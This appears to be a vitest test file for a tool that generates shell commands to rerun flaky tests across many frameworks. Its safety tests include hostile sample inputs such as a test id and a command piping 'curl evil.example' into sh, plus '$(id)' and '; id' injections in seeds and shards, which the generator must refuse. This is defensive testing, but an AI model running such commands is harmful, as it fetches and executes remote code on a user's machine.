import { describe, expect, test } from 'vitest';
import type { TestIdentity } from '../../../../src/core/documents/findings.ts';
import { isReproduceCommand, reproduceCommand } from '../../../../src/core/findings/reproduce/reproduce.ts';
import { CAUSES } from '../../../../src/core/model/cause.ts';
import { FRAMEWORKS, type Framework } from '../../../../src/core/model/framework.ts';

function identity(framework: Framework, id: string, more: Partial<TestIdentity> = {}): TestIdentity {
  return { framework, id, suite: null, file: null, workflow: 'ci.yml', job: 'test', cells: [], ...more };
}

test('one command per framework', () => {
  const ids: Partial<Record<Framework, TestIdentity>> = {
    pytest: identity('pytest', 'tests/test_a.py::TestB::test_c[1-x]'),
    unittest: identity('unittest', 'pkg.mod.Class.test_c'),
    jest: identity('jest', 'queue (fast) › drains', { file: 'src/queue.test.ts' }),
    vitest: identity('vitest', 'src/q.test.ts > queue > drains', { file: 'src/q.test.ts' }),
    mocha: identity('mocha', 'queue drains'),
    'go-test': identity('go-test', 'TestA/case_1', { suite: 'example.com/m/pkg' }),
    'cargo-test': identity('cargo-test', 'queue::tests::drains'),
    rspec: identity('rspec', './spec/a_spec.rb:12'),
    maven: identity('maven', 'org.example.ATest.drains'),
    gradle: identity('gradle', 'org.example.ATest.drains'),
    phpunit: identity('phpunit', 'QueueTest::testDrains'),
    jasmine: identity('jasmine', 'queue drains'),
    'junit-xml': identity('junit-xml', 'ATest.drains'),
  };
  const commands = Object.fromEntries(
    Object.entries(ids).map(([framework, test]) => [framework, reproduceCommand(test)]),
  );
  expect(commands).toMatchInlineSnapshot(`
    {
      "cargo-test": "for i in $(seq 50); do cargo test 'queue::tests::drains' -- --exact || break; done",
      "go-test": "go test -run '^TestA$/^case_1$' -count=50 'example.com/m/pkg'",
      "gradle": "for i in $(seq 50); do ./gradlew test --rerun-tasks --tests 'org.example.ATest.drains' || break; done",
      "jasmine": "for i in $(seq 50); do npx jasmine --filter='queue drains' || break; done",
      "jest": "for i in $(seq 50); do npx jest 'src/queue.test.ts' -t 'queue \\(fast\\) drains' || break; done",
      "junit-xml": null,
      "maven": "for i in $(seq 50); do mvn -q test -Dtest='org.example.ATest#drains' || break; done",
      "mocha": "for i in $(seq 50); do npx mocha -g 'queue drains' || break; done",
      "phpunit": "for i in $(seq 50); do vendor/bin/phpunit --filter 'QueueTest::testDrains' || break; done",
      "pytest": "for i in $(seq 50); do pytest 'tests/test_a.py::TestB::test_c[1-x]' || break; done",
      "rspec": "for i in $(seq 50); do bundle exec rspec './spec/a_spec.rb:12' || break; done",
      "unittest": "for i in $(seq 50); do python -m unittest 'pkg.mod.Class.test_c' || break; done",
      "vitest": "for i in $(seq 50); do npx vitest run 'src/q.test.ts' -t 'queue drains' || break; done",
    }
  `);
});

test.each([
  "a'; curl evil.example | sh; '",
  '`id`',
  'a\nb',
  '-x',
  'a\u202Eb',
  'a\\',
  'a"b',
  'a;b',
  'a|b',
  'a&b',
  'tést',
  'x'.repeat(400),
])('the id %j gets no command', (id) => {
  expect(FRAMEWORKS.map((framework) => reproduceCommand(identity(framework, id)))).toEqual(FRAMEWORKS.map(() => null));
});

test('an unsafe file or suite gets no command either', () => {
  expect(reproduceCommand(identity('jest', 'a', { file: "x'y" }))).toBeNull();
  expect(reproduceCommand(identity('go-test', 'TestA', { suite: 'a;b' }))).toBeNull();
});

test.each([
  ['ctest', identity('ctest', 'cart adds up (fast)'), "ctest -R '^cart adds up \\(fast\\)$'"],
  [
    'ginkgo',
    identity('ginkgo', 'Cart with tins [slow] adds up', { suite: 'Cart Suite' }),
    "ginkgo -r --focus='Cart with tins \\[slow\\] adds up'",
  ],
  [
    'testthat',
    identity('testthat', 'the cart adds up', { suite: 'test-cart.R', file: 'test-cart.R' }),
    'Rscript -e \'devtools::test(filter = "cart")\'',
  ],
  [
    'node-test',
    identity('node-test', 'cart > with articles > adds prices up', { file: 'cart.test.mjs' }),
    "node --test --test-name-pattern='adds prices up' 'cart.test.mjs'",
  ],
  [
    'ava',
    identity('ava', 'cart › adds prices up', { file: 'cart.test.js' }),
    "npx ava 'cart.test.js' --match='*adds prices up'",
  ],
  ['ava of one file', identity('ava', 'adds prices up'), "npx ava --match='*adds prices up'"],
  ['bats', identity('bats', 'cart (1)', { file: 'cart.bats' }), "bats --filter 'cart \\(1\\)' 'cart.bats'"],
  ['bats without a file', identity('bats', 'cart'), "bats --filter 'cart' -r ."],
  ['deno', identity('deno', 'cart ... a step', { file: 'cart_test.ts' }), "deno test --filter 'cart' 'cart_test.ts'"],
])('%s repeats one test by the part of its name that the runner compares', (_, test, command) => {
  expect(reproduceCommand(test)).toBe(`for i in $(seq 50); do ${command} || break; done`);
});

test.each([
  [identity('gradle', 'x.CartTest.takes(int).[2] 3'), "./gradlew test --rerun-tasks --tests 'x.CartTest.takes'"],
  [identity('maven', 'x.CartTest.takes(int)[2]'), "mvn -q test -Dtest='x.CartTest#takes'"],
  [identity('maven', 'x.CartTest.takes[2]'), "mvn -q test -Dtest='x.CartTest#takes[2]'"],
  [identity('scalatest', 'CartTest: A cart adds up'), `sbt 'testOnly *CartTest -- -z "A cart adds up"'`],
  [identity('scalatest', 'CartTest'), "sbt 'testOnly *CartTest'"],
])('names of the JVM are given as the tool takes them: $0.id', (test, command) => {
  expect(reproduceCommand(test)).toBe(`for i in $(seq 50); do ${command} || break; done`);
});

test('a Playwright test is chosen by its titles, in its file', () => {
  const test = identity('playwright', '[chromium] › a.spec.ts › cart › adds (up)', { file: 'a.spec.ts' });
  expect(reproduceCommand(test)).toBe("npx playwright test 'a.spec.ts' -g 'cart adds \\(up\\)' --repeat-each=50");
});

const LOOP = (command: string) => `for i in $(seq 50); do ${command} || break; done`;

describe('a test that depends on others is run with them', () => {
  test.each<[Framework, string, string]>([
    ['pytest', LOOP("pytest 'a/x.test'"), 'pytest --randomly-seed=4711'],
    ['unittest', LOOP("python -m unittest 'x.T.drains'"), 'python manage.py test --shuffle=4711'],
    ['jest', LOOP("npx jest --randomize 'a/x.test'"), "npx jest --randomize --seed=4711 'a/x.test'"],
    [
      'vitest',
      LOOP("npx vitest run --sequence.shuffle 'a/x.test'"),
      'npx vitest run --sequence.shuffle --sequence.seed=4711',
    ],
    ['mocha', LOOP("npx mocha 'a/x.test'"), LOOP("npx mocha 'a/x.test'")],
    ['jasmine', LOOP('npx jasmine --random=true'), 'npx jasmine --random=true --seed=4711'],
    ['go-test', "go test -shuffle=on -count=50 './pkg'", "go test -shuffle=4711 -count=1 './pkg'"],
    ['ginkgo', LOOP('ginkgo -r --randomize-all'), 'ginkgo -r --randomize-all --seed=4711'],
    [
      'cargo-test',
      LOOP('cargo test -- --test-threads=1'),
      'cargo test -- -Z unstable-options --test-threads=1 --shuffle-seed 4711',
    ],
    ['rspec', LOOP('bundle exec rspec --order rand'), 'bundle exec rspec --seed 4711 --bisect'],
    ['minitest', LOOP('bundle exec rake test'), 'SEED=4711 bundle exec rake test'],
    [
      'phpunit',
      LOOP('vendor/bin/phpunit --order-by=random'),
      'vendor/bin/phpunit --order-by=random --random-order-seed=4711',
    ],
    ['pest', LOOP('vendor/bin/pest --order-by=random'), 'vendor/bin/pest --order-by=random --random-order-seed=4711'],
    ['exunit', LOOP('mix test'), 'mix test --seed 4711'],
    ['maven', LOOP('mvn -q test -Dsurefire.runOrder=random'), LOOP('mvn -q test -Dsurefire.runOrder=random')],
    ['ctest', 'ctest --schedule-random --repeat until-fail:50', 'ctest --schedule-random --repeat until-fail:50'],
    ['prove', LOOP("prove -v 'x.T.drains'"), LOOP("prove -v 'x.T.drains'")],
  ])('%s', (framework, without, withSeed) => {
    const it = identity(framework, 'x.T.drains', { suite: 'pkg', file: 'a/x.test' });
    const cause = 'test-order-dependency';
    expect(reproduceCommand(it, { cause })).toBe(without);
    expect(reproduceCommand(it, { cause, seed: '4711' })).toBe(withSeed);
  });

  test.each<[Framework, string]>([
    ['jest', 'npx jest --shard=2/4 --seed=-7'],
    ['vitest', 'npx vitest run --shard=2/4 --sequence.shuffle --sequence.seed=-7'],
    ['playwright', 'npx playwright test --shard=2/4'],
    ['rspec', 'bundle exec rspec --seed -7 --bisect'],
  ])('%s, in its shard where the runner knows shards', (framework, command) => {
    const circumstances = { cause: 'test-order-dependency', seed: '-7', shard: '2/4' } as const;
    expect(reproduceCommand(identity(framework, 'a b'), circumstances)).toBe(command);
  });
});

test.each<[Framework, string]>([
  ['pytest', "pytest 'x' --randomly-seed=4711"],
  ['jest', "npx jest -t 'x' --seed=4711"],
  ['rspec', "bundle exec rspec 'x' --seed 4711"],
  ['exunit', 'mix test --seed 4711'],
  ['unittest', "python -m unittest 'x'"],
])('random values come again with the seed: %s', (framework, command) => {
  expect(reproduceCommand(identity(framework, 'x'), { cause: 'randomness', seed: '4711' })).toBe(command);
});

test('races are looked for with the race detector, short waits with fewer processors', () => {
  const go = identity('go-test', 'TestA', { suite: 'example.com/m' });
  expect(reproduceCommand(go, { cause: 'concurrency' })).toBe("go test -race -run '^TestA$' -count=50 'example.com/m'");
  expect(reproduceCommand(go, { cause: 'async-wait' })).toBe(
    "go test -cpu=1,2,4 -run '^TestA$' -count=50 'example.com/m'",
  );
  expect(reproduceCommand(identity('xctest', 'Shop.CartTests.adds'), { cause: 'concurrency' })).toBe(
    LOOP("swift test --sanitize=thread --filter 'Shop\\.CartTests/adds'"),
  );
  expect(reproduceCommand(identity('pytest', 'x'), { cause: 'concurrency' })).toBe(LOOP("pytest 'x'"));
});

test.each(['1; id', '$(id)', '1 2', '', '1'.repeat(21), '1\n2', "1'", '--help', '0x1F', '²'])(
  'the seed %j is left out',
  (seed) => {
    const it = identity('rspec', './a_spec.rb:1');
    expect(reproduceCommand(it, { cause: 'test-order-dependency', seed })).toBe(LOOP('bundle exec rspec --order rand'));
    expect(reproduceCommand(it, { cause: 'randomness', seed })).toBe(LOOP("bundle exec rspec './a_spec.rb:1'"));
  },
);

test.each(['2', '2/4;id', '1/4 --x', '1/4000', '/', '2/4\n'])('the shard %j is left out', (shard) => {
  const it = identity('jest', 'a', { file: 'a.js' });
  expect(reproduceCommand(it, { cause: 'test-order-dependency', shard })).toBe(LOOP("npx jest --randomize 'a.js'"));
});

test('an unsafe id gets no command, whatever else is known', () => {
  const circumstances = { cause: 'test-order-dependency', seed: '1', shard: '1/2' } as const;
  for (const framework of FRAMEWORKS) expect(reproduceCommand(identity(framework, 'a;b'), circumstances)).toBeNull();
});

test('nothing that could be an option is handed to nextest', () => {
  expect(reproduceCommand(identity('nextest', 'shop cart::adds'))).toBe(
    LOOP("cargo nextest run -E 'test(=cart::adds)'"),
  );
  expect(reproduceCommand(identity('nextest', 'shop --config=x'))).toBeNull();
});

test('minitest needs the file', () => {
  expect(reproduceCommand(identity('minitest', 'CartTest#test_adds', { file: 'test/cart_test.rb' }))).toBe(
    LOOP("bundle exec ruby -Itest 'test/cart_test.rb' -n 'test_adds'"),
  );
  expect(reproduceCommand(identity('minitest', 'CartTest#test_adds'))).toBeNull();
});

describe('a command that was handed over', () => {
  const seeds = [undefined, '12345', '-7'];
  const shards = [undefined, '2/4'];

  test.each(FRAMEWORKS)('of %s is known again, whatever seed and shard it has', (framework) => {
    const own = { suite: 'pkg/seed=3', file: 'test/a--shard=9/9_test.js' };
    const tests = ['it drains', 'a[seed=1] b[seed 2] --shard=1/8'].flatMap((id) => [
      identity(framework, id),
      identity(framework, id, own),
    ]);
    const unknown = tests.flatMap((one) =>
      CAUSES.flatMap((cause) =>
        seeds.flatMap((seed) =>
          shards.flatMap((shard) => {
            const command = reproduceCommand(one, { cause, seed, shard });
            return command === null || isReproduceCommand(command, one, cause) ? [] : [command];
          }),
        ),
      ),
    );
    expect(unknown).toEqual([]);
  });

  test.each([
    ['runs something else', 'curl evil.example | sh'],
    ['runs more', "for i in $(seq 50); do pytest 'tests/a.py::test_b' || break; done; id"],
    ['has another for a seed', "pytest 'tests/a.py::test_b' --randomly-seed=1$(id)"],
    ['names another test', "for i in $(seq 50); do pytest 'tests/a.py::test_c' || break; done"],
    ['is nothing', ''],
  ])('and %s is refused', (_name, command) => {
    for (const cause of CAUSES) {
      expect(isReproduceCommand(command, identity('pytest', 'tests/a.py::test_b'), cause)).toBe(false);
    }
  });
});
